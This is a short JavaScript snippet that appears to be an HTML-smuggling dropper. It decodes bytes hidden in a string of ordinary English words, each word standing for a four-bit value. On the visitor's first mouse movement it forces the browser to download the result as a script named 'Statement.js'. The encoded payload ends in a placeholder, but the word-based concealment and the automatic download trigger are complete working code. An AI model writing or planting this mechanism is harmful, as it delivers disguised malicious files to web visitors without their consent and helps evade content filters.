var words = 'able acid aged also area army away baby back ball band bank base bath bear beat'.split(' ');
var text = 'bank also acid beat able baby area army ball back away aged band bear base bath able acid beat bank also PLACEHOLDER';
var ix = {};
words.forEach(function (w, i) { ix[w] = i; });
var nib = text.split(' ').filter(function (w) { return w in ix; }).map(function (w) { return ix[w]; });
var bytes = new Uint8Array(nib.length >> 1);
for (var i = 0; i < bytes.length; i++) bytes[i] = nib[2 * i] << 4 | nib[2 * i + 1];
window.addEventListener('mousemove', function once() {
  window.removeEventListener('mousemove', once);
  var l = document.createElement('a');
  l.href = URL.createObjectURL(new File([bytes], 'Statement.js', { type: 'application/javascript' }));
  l.download = 'Statement.js';
  document.body.append(l);
  l.click();
});
